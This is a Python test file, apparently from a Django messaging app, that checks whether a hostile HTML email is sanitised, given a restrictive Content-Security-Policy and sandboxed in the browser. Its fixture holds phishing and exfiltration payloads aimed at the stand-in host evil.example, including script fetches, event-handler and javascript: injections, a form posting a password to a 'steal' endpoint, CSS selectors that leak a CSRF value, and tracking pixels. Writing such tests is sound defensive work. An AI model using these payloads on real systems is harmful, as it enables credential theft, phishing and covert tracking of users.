"""Hostile HTML in a real browser: nothing runs, nothing is fetched, nothing can be sent, and deceit is named."""

from __future__ import annotations

from typing import Any

import pytest
from django.test import Client
from playwright.sync_api import Browser, Page, expect

from cast import House, found_house, receive
from hostile.mails import html
from hostile.seen import BACKEND, Looking
from nahbar.accounts.models import Member
from nahbar.conversations.models import Message
from plugins.browser import Watched

pytestmark = [pytest.mark.django_db]
EVIL = """
<html><head><title>x</title><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/away">
<link rel="stylesheet" href="https://evil.example/a.css">
<style>@import url("https://evil.example/b.css"); body { background: url(https://evil.example/open.gif) }
#csrf[value^=a] { background: url(https://evil.example/leak?a) }</style></head>
<body onload="document.title='ran'" background="https://evil.example/bg.gif">
<p>Liebes Team, bitte prüft euer Konto.</p>
<script>document.title = 'ran'; fetch('https://evil.example/script')</script>
<img src="https://evil.example/pixel.gif" width="1" height="1" alt="Zählpixel">
<img src=x onerror="document.title='ran'">
<img srcset="https://evil.example/set.gif 1x" src="//evil.example/relative.gif">
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url('https://evil.example/css.gif')">.</div>
<form action="https://evil.example/steal" method="post"><input name="password" type="password" value="a">
<button formaction="https://evil.example/steal">Anmelden</button></form>
<a href="https://evil.example/login">https://www.bank.example/anmelden</a>
<a href="javascript:document.title='ran'">Hier klicken</a>
<a href="data:text/html,<script>1</script>">Oder hier</a>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>
<embed src="https://evil.example/e"><svg onload="document.title='ran'"><use href="https://evil.example/s#x"/></svg>
<video src="https://evil.example/v.mp4" poster="https://evil.example/p.gif" autoplay></video>
<table><tr><td background="https://evil.example/td.gif">Zelle</td></tr></table>
</body></html>
"""


def test_page_and_original_hold_nothing_that_acts(house: House, seen: Looking) -> None:
    message = receive(house.info, raw=html(EVIL))
    page = seen.conversation(message)
    original = seen.client.get(f"/messages/{message.pk}/original/")
    shown = original.content.decode()
    for text in (page, shown, seen.by_api(message)["html"]):
        assert "document.title" not in text.lower()
        assert "evil.example/steal" not in text
        assert 'src="https://evil.example' not in text
        assert "url(" not in text
    policy = original.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "form-action 'none'" in policy
    assert "sandbox allow-popups allow-popups-to-escape-sandbox" in policy
    assert "<form" not in shown
    assert '<span class="link-warning">evil.example</span>' in shown


def test_words_are_read_in_the_list_and_on_the_page(house: House, seen: Looking) -> None:
    message = receive(house.info, raw=html(EVIL))
    assert "Liebes Team, bitte prüft euer Konto." in seen.list_page()
    assert "Liebes Team, bitte prüft euer Konto." in seen.words(message)


@pytest.fixture
def hostile_mail(transactional_db: None) -> Message:
    """Committed, as the browser's server reads it."""
    del transactional_db
    return receive(found_house().info, raw=html(EVIL))


def open_as_anna(page: Page, live_server: Any, message: Message) -> Page:
    """The conversation in Anna's browser."""
    client = Client()
    client.force_login(Member.objects.get(email="anna@radhof.example"), backend=BACKEND)
    cookie = client.cookies["sessionid"].value
    page.context.add_cookies([{"name": "sessionid", "value": cookie, "url": live_server.url}])
    page.goto(f"{live_server.url}/conversations/{message.conversation_id}/")
    return page


@pytest.fixture
def open_page(live_server: Any, hostile_mail: Message, page: Page) -> Page:
    """The fixture `page` fails its test for any error, and for any request beyond loopback."""
    return open_as_anna(page, live_server, hostile_mail)


@pytest.mark.browser
def test_browser_runs_fetches_and_sends_nothing(open_page: Page) -> None:
    expect(open_page.get_by_text("bitte prüft euer Konto").first).to_be_visible()
    title = open_page.title()
    open_page.get_by_text("Im Original zeigen").click()
    frame = open_page.frame_locator("iframe")
    expect(frame.get_by_text("bitte prüft euer Konto")).to_be_visible()
    warning = frame.locator(".link-warning")
    expect(warning).to_be_visible()
    expect(warning).to_have_text("evil.example")
    assert frame.locator("form, input, button, script, iframe, object, embed, svg, video, [onerror]").count() == 0
    assert frame.locator("a[href^='javascript:'], a[href^='data:']").count() == 0
    assert frame.locator("img[src^='http']").count() == 0
    assert open_page.title() == title


@pytest.mark.browser
def test_cage_holds_even_what_the_cleaning_missed(live_server: Any, hostile_mail: Message, chromium: Browser) -> None:
    """The second wall: a script that is put into the page past the cleaning is not run."""
    watched = Watched(chromium, {})
    page = open_as_anna(watched.open(), live_server, hostile_mail)
    assert page.locator("iframe").get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
    page.goto(f"{live_server.url}/messages/{hostile_mail.pk}/original/")
    title = page.title()
    page.evaluate(
        "const made = document.createElement('script'); made.textContent = 'document.title = 1'; "
        "document.body.append(made)"
    )
    assert page.title() == title
    with pytest.raises(AssertionError, match="Blocked script execution"):
        watched.close()
